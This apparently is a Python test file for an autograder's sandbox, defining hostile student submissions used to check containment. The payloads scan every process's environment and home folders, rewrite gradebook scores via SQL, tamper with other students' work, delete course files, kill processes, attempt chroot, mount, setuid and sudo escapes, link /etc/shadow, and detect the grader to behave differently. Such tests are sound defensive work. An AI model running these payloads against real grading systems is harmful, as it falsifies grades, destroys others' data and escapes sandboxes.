"""Code that reaches for what is not its own: files, processes, the network, other people's marks."""

from tests.grading import tiny
from tests.grading.attacks.attack import ALL, SOLVED, WRONG, Attack, answering


def _wild(name: str, about: str, source: str, **more) -> Attack:
    """Every answer is right, so that the code alone decides whether anything is lost."""
    return Attack(name, about, answering(tiny.NAME, {"add_1": "+" + source}), **({"base": SOLVED} | more))


_SEARCH = r"""
import os, re
def search(text):
    for found in set(re.findall(r"@MARK@-kept-[0-9a-f]+", text)): print(found[::-1])
"""

_ENVIRONMENT = (
    _SEARCH
    + """
search(str(dict(os.environ)))
for name in os.listdir("/proc"):
    for file in ("environ", "cmdline"):
        try: search(open(f"/proc/{name}/{file}", errors="replace").read())
        except OSError: pass
"""
)

_HOME = (
    _SEARCH
    + """
for top in ("@HOME@", "/root", "/home", "/tmp", "@COURSE@", os.path.expanduser("~"), "/proc/1/root@HOME@", "/var/tmp"):
    for folder, folders, names in os.walk(top):
        if folder.count("/") > 14: folders.clear()
        for name in names:
            try: search(open(os.path.join(folder, name), errors="replace").read(2_000_000))
            except OSError: pass
"""
)

_WRITE_EVERYWHERE = """
import os, pathlib, sys
places = ["@COURSE@", "@COURSE@/submitted/0_honest/tiny", "@COURSE@/autograded/0_honest/tiny", "@COURSE@/autograded", "@COURSE@/assignments/tiny",
          "@LIBRARY@", "@LIBRARY@/grading", "@DATA@", "@HOME@", "/tmp", "/var/tmp", "/dev/shm", "/etc", "/usr/local/bin",
          sys.prefix, *[path for path in sys.path if "site-packages" in path], "../../..", "..", "/proc/1/cwd", "/proc/1/root/tmp"]
for place in places:
    for name in ("@MARK@-written", "@MARK@-written.pth", "@MARK@_written.py"):
        try: pathlib.Path(place, name).write_text("x")
        except OSError: pass
"""

_CHANGE_FILES = """
import os, pathlib
for name in ("@COURSE@/nbgrader_config.py", "@COURSE@/solutions/tiny/tiny.ipynb", "@COURSE@/assignments/tiny/tiny.ipynb",
             "@COURSE@/submitted/zz_honest/tiny/tiny.ipynb", "@COURSE@/autograded/0_honest/tiny/tiny.ipynb",
             "@COURSE@/gradebook.db", "@LIBRARY@/marking.py", "@LIBRARY@/__init__.py", "@LIBRARY@/grading/execute.py"):
    for mode in ("r+", "w"):
        try:
            with open(name, mode) as file: file.write("@MARK@")
        except OSError: pass
    for change in (os.unlink, lambda name: os.chmod(name, 0o777), lambda name: os.rename(name, name + "@MARK@")):
        try: change(name)
        except OSError: pass
"""

_CONFIG = """
for name in ("@COURSE@/nbgrader_config.py", "../../../nbgrader_config.py", "nbgrader_config.py", "../nbgrader_config.py"):
    try:
        with open(name, "a") as file: file.write("\\nopen('@HOME@/@MARK@-config', 'w').write('x')\\n")
    except OSError: pass
"""

_GRADEBOOK = """
import sqlite3
changes = ["update grade set manual_score = 10", "update grade set auto_score = 10", "update grade set needs_manual_grade = 0",
           "update grade set extra_credit = 100", "update source_cell set source = '10'", "update grade_cells set max_score = 1000",
           "update grade_cell set max_score = 1000"]
for path in ("@COURSE@/gradebook.db", "../../../gradebook.db"):
    for change in changes:
        try:
            with sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1) as book: book.execute(change)
        except sqlite3.Error: pass
"""

_GRADEBOOK_LOCK = """
import os, sqlite3, time
if os.fork() == 0:
    os.setsid()
    book = sqlite3.connect("@COURSE@/gradebook.db")
    try: book.execute("begin exclusive"); time.sleep(60)
    finally: os._exit(0)
time.sleep(0.5)
"""

_OTHERS = """
import json, pathlib
for student in ("0_honest", "zz_honest"):
    for top in ("@COURSE@", "../../.."):
        for step in ("submitted", "autograded"):
            path = pathlib.Path(top, step, student, "tiny", "tiny.ipynb")
            try: path.chmod(0o666); path.write_text(path.read_text().replace("return [", "return [1, *["))
            except OSError: pass
"""

_INTAKE = """
import glob, os
for name in glob.glob("/tmp/**/tiny.ipynb", recursive=True) + glob.glob("/tmp/*intake*/**", recursive=True):
    if os.path.isfile(name):
        try: open(name, "w").write("{}")
        except OSError: pass
"""

_DAEMON = """
import os, signal, subprocess, sys, time
code = "import os, signal, time\\n[signal.signal(n, signal.SIG_IGN) for n in (1, 2, 15)]\\ntime.sleep(3600) # @MARK@"
subprocess.Popen([sys.executable, "-S", "-c", code], start_new_session=True, env={}, cwd="/", close_fds=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 1000)
        os.execve(sys.executable, [sys.executable, "-S", "-c", code], {})
    os._exit(0)
"""

_SHELL = """
get_ipython().system("(sleep 3600; echo @MARK@) &")
get_ipython().run_cell_magic("script", "--bg bash", "exec -a @MARK@ sleep 3600")
"""

_NETWORK = """
import socket, urllib.request
for family, address in ((socket.AF_INET, ("127.0.0.1", @PORT@)), (socket.AF_INET, ("localhost", @PORT@)), (socket.AF_INET6, ("::1", @PORT@)),
                        (socket.AF_UNIX, "\\0@MARK@-socket"), (socket.AF_UNIX, "@HOME@/@MARK@-socket")):
    try:
        with socket.socket(family) as found: found.settimeout(1); found.connect(address); found.sendall(b"@MARK@")
    except OSError: pass
for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
    try:
        with socket.socket(socket.AF_INET, kind, 17 if kind == socket.SOCK_RAW else 0) as found: found.sendto(b"@MARK@", ("127.0.0.1", @PORT@))
    except OSError: pass
"""

_KILL_ALL = """
import os, signal
for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
    for process in [int(name) for name in os.listdir("/proc") if name.isdigit()]:
        if process != os.getpid():
            try: os.kill(process, number)
            except OSError: pass
"""

_KILL_PARENT = """
import os, signal
for number in (signal.SIGSTOP, signal.SIGKILL):
    try: os.kill(os.getppid(), number)
    except OSError: pass
try: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
except OSError: pass
"""

_WALLS = """
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x00020000, 0x10020000, 0x30020000): libc.unshare(flags)
for source, target, kind, flags in ((b"none", b"/tmp", b"tmpfs", 0), (b"/", b"/mnt", None, 4096), (b"proc", b"/proc", b"proc", 0), (None, b"/", None, 32), (b"none", b"@LIBRARY@", b"tmpfs", 0)):
    libc.mount(source, target, kind, flags, None)
libc.umount2(b"/proc", 2); libc.umount2(b"@LIBRARY@", 2); libc.chroot(b"/proc/1/root"); libc.setuid(0); libc.setgid(0); libc.setns(0, 0)
for number in range(1, 10):
    try: os.chdir(f"/proc/{number}/root")
    except OSError: pass
for name in ("/dev/mem", "/dev/kmem", "/dev/sda", "/dev/vda", "/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/sys/fs/cgroup/cgroup.procs"):
    try: open(name, "r+b").read(1)
    except OSError: pass
for command in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mknod", "/tmp/disk", "b", "8", "0"], ["bwrap", "--bind", "/", "/", "true"]):
    try: subprocess.run(command, timeout=5, capture_output=True, stdin=subprocess.DEVNULL)
    except (OSError, subprocess.SubprocessError): pass
"""

_CWD = """
import os
os.symlink("/", "root"); os.makedirs("x/y"); os.chdir("root")
here = os.getcwd()
"""

_CWD_GONE = """
import os, shutil
here = os.getcwd()
os.chdir("/")
shutil.rmtree(here, ignore_errors=True)
"""

_BEHAVES = """
import os, sys
graded = any(word in str(os.environ) + os.getcwd() + str(sys.argv) for word in ("nbgrader", "NBGRADER", "autograded", "submitted", "student", "SEQMODELS"))
if graded: open("graded", "w").write("x")
else: raise SystemExit
"""

_HARD_LINKS = """
import os
for name in ("@COURSE@/gradebook.db", "@COURSE@/solutions/tiny/tiny.ipynb", "/etc/shadow"):
    for make in (os.link, os.symlink):
        try: make(name, "found-" + make.__name__ + os.path.basename(name))
        except OSError: pass
try: os.symlink("@HOME@/@MARK@-through-link", "tiny.ipynb.new"); os.unlink("tiny.ipynb"); os.symlink("@HOME@/@MARK@-through-link", "tiny.ipynb")
except OSError: pass
"""

ATTACKS = [
    _wild("environment", "reads the environment of all processes", _ENVIRONMENT),
    _wild("home", "searches home folders and the disk for keys", _HOME, perhaps=("timeout",)),
    _wild("writes_everywhere", "writes into the library, the data, site-packages, /tmp", _WRITE_EVERYWHERE),
    _wild("config", "writes nbgrader_config.py", _CONFIG),
    Attack("gradebook_marks", "writes marks into gradebook.db", answering(tiny.NAME, {"add_1": "+" + _GRADEBOOK}), WRONG, ALL),
    _wild("gradebook_lock", "locks gradebook.db", _GRADEBOOK_LOCK),
    _wild("others_work", "changes another student's work", _OTHERS),
    _wild("intake", "changes what the grader has taken in", _INTAKE),
    _wild("daemon", "leaves processes behind that ignore signals", _DAEMON),
    _wild("shell", "leaves shell commands behind", _SHELL),
    _wild("network", "uses the network, loopback, sockets", _NETWORK),
    _wild("walls", "mounts, unshares, changes root, opens devices, sudo", _WALLS),
    _wild("cwd", "a linked working folder", _CWD),
    _wild("cwd_gone", "deletes its working folder", _CWD_GONE),
    _wild("behaves", "recognises the grader, and behaves", _BEHAVES),
    _wild("links_made", "makes links to the gradebook and in the notebook's place", _HARD_LINKS),
    _wild("kill_parent", "stops and kills its parent", _KILL_PARENT),
    _wild("kill_all", "stops and kills every process that it sees", _KILL_ALL),
    # The last: what it does to the course, everybody else would have to live with.
    _wild("changes_files", "overwrites and deletes solutions, assignments, config, gradebook, library", _CHANGE_FILES),
]  # fmt: skip
